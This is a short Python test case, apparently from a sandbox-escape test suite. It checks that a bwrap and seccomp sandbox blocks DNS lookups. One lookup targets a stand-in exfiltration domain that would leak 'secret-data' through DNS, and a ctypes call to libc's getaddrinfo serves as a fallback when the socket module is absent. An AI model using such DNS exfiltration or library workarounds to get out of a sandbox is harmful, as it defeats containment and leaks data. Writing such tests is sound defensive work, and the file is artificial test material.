"""Resolve names: getaddrinfo for a public name and for a name that would leak data.

A DNS lookup leaks data to whoever runs the resolver. There is no /etc/resolv.conf in a bwrap
sandbox, no network in either backend, and seccomp refuses the socket a resolver needs (and the
executable mapping of an NSS module), so resolution fails quickly; the policy re-raises the
failure. Without the socket module it calls libc's getaddrinfo through ctypes.

attack: DNS lookups (getaddrinfo) of public names
family: network
layer: seccomp refuses socket and new native code; no resolver configuration or network
expect: error
checker: reject
max-seconds: 2
"""
import ctypes

try:
    import socket
except ImportError:
    socket = None


def act(obs):
    for name in ("example.com", "secret-data.evocade-exfiltration.example"):
        if socket is not None:
            found = socket.getaddrinfo(name, 80)
        else:
            libc = ctypes.CDLL(None, use_errno=True)
            result = ctypes.c_void_p()
            code = libc.getaddrinfo(name.encode(), b"80", None, ctypes.byref(result))
            if code != 0:
                raise OSError(f"getaddrinfo({name!r}) failed with EAI code {code}")
            found = result
        print("ESC" + "APED", name, found)
    return 0
